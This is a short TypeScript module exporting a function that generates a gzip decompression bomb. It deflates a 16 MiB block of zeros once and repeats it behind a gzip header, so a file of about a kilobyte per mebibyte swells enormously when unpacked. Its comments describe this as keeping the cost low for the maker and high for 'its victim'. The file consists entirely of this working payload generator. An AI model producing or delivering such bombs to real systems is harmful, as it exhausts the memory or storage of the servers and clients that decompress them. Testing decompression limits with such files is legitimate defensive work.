import { constants, deflateRawSync } from 'node:zlib';

const MEBIBYTE = 1_048_576;
/** Zeros per block: what deflate makes of them is about a thousandth. */
const BLOCK_BYTES = 16 * MEBIBYTE;
const GZIP_HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);

/**
 * About a kilobyte per mebibyte of zeros, as a single gzip. Put together from the same block again and again, so that
 * making the bomb does not cost what it would cost its victim.
 *
 * @param inflatedBytes what it would grow to; a multiple of 16 MiB
 */
export function gzipBomb(inflatedBytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(BLOCK_BYTES), { finishFlush: constants.Z_FULL_FLUSH });
  const blocks = Array.from({ length: inflatedBytes / BLOCK_BYTES }, () => block);
  return Buffer.concat([GZIP_HEADER, ...blocks]);
}
